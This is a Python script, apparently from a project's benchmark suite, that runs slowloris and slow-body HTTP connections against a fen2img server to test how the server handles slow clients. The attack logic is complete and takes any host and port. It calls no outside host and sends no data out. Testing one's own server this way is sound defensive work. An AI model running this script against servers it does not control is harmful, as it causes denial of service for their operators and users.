#!/usr/bin/env python3
"""Hostile clients for bench/serve_load.sh: slowloris heads and slow
request bodies against a fen2img server, each reopened when the server
closes it, until killed. Standard library only.

    attack.py HOST PORT --slowloris N --slow-bodies M [--chunked]

A slowloris connection sends a request head a few bytes every second and
never finishes it; a slow body sends POST /game.gif with Content-Length
100000 and then one byte a second (or, with --chunked, one-byte chunks).
Counts of what the server did to them go to stderr when stopped (SIGTERM).
"""
import argparse
import asyncio
import signal
import sys

counts = {"opened": 0, "closed_by_server": 0, "refused": 0}


async def one(host, port, head, drip, first_body=b""):
    while True:
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except OSError:
            counts["refused"] += 1
            await asyncio.sleep(0.5)
            continue
        counts["opened"] += 1
        try:
            writer.write(head + first_body)
            await writer.drain()
            while True:
                # Anything from the server (a 408, a 503, EOF) ends this one.
                try:
                    data = await asyncio.wait_for(reader.read(4096), timeout=1.0)
                    counts["closed_by_server"] += 1
                    break
                except asyncio.TimeoutError:
                    pass
                writer.write(drip)
                await writer.drain()
        except OSError:
            counts["closed_by_server"] += 1
        finally:
            writer.close()
        await asyncio.sleep(0.05)


async def main():
    p = argparse.ArgumentParser()
    p.add_argument("host")
    p.add_argument("port", type=int)
    p.add_argument("--slowloris", type=int, default=0)
    p.add_argument("--slow-bodies", type=int, default=0)
    p.add_argument("--chunked", action="store_true")
    a = p.parse_args()
    tasks = []
    for i in range(a.slowloris):
        head = b"GET /healthz HTTP/1.1\r\nHost: x\r\n"
        tasks.append(one(a.host, a.port, head, b"X-a: b\r\n"))
    for i in range(a.slow_bodies):
        if a.chunked and i % 2:
            head = b"POST /game.gif HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
            tasks.append(one(a.host, a.port, head, b"1\r\n \r\n"))
        else:
            head = b"POST /game.gif HTTP/1.1\r\nHost: x\r\nContent-Length: 100000\r\n\r\n"
            tasks.append(one(a.host, a.port, head, b" ", b'{"frames":'))
    stop = asyncio.Event()
    asyncio.get_running_loop().add_signal_handler(signal.SIGTERM, stop.set)
    running = [asyncio.ensure_future(t) for t in tasks]
    await stop.wait()
    for t in running:
        t.cancel()
    print(f"attack: {counts}", file=sys.stderr)


if __name__ == "__main__":
    asyncio.run(main())
